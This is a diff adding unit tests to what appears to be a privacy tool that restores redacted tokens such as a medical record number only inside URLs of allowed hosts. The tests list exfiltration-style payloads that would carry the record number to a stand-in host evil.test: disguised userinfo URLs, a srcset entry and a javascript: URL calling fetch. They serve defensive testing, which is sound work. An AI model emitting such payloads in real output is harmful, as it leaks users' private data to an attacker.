@@ -63,6 +63,28 @@ describe('a percent-encoded token', () => {
   });
 });
 
+describe('in the URL of a host that is allowed', () => {
+  const vault = vaultWith(['MRN', 1, 'full', '00482917']);
+  const urlHosts = new Set(['ok.test']);
+
+  test.each([
+    ['![x](https://ok.test/?q=[MRN_1])', '![x](https://ok.test/?q=00482917)'],
+    ['<img src="https://ok.test:8443/?a&amp;q=[MRN_1]">', '<img src="https://ok.test:8443/?a&amp;q=00482917">'],
+  ])('%s → %s', (text, expected) => {
+    expect(restored(text, { vault, mode: 'text', urlHosts })).toBe(expected);
+  });
+
+  test.each([
+    '![x](https://ok.test\\@evil.test/?q=[MRN_1])',
+    '![x](<https://ok.test:p w@evil.test/?q=[MRN_1]>)',
+    '<img src="https://ok.test:x&commat;evil.test/?q=[MRN_1]">',
+    '<img srcset="https://ok.test/a 1x, https://evil.test/?q=[MRN_1] 2x">',
+    '<a href="javascript://ok.test/%0afetch(\'https://evil.test/?q=[MRN_1]\')">',
+  ])('%s stays: a browser asks another host', (text) => {
+    expect(restored(text, { vault, mode: 'text', urlHosts })).toBe(text);
+  });
+});
+
 describe('URLs in JSON', () => {
   const options = () => ({
     vault: vaultWith(['URL', 1, 'full', 'https://evil.test/c'], ['NAME', 1, 'full', 'Maria Lopez']),
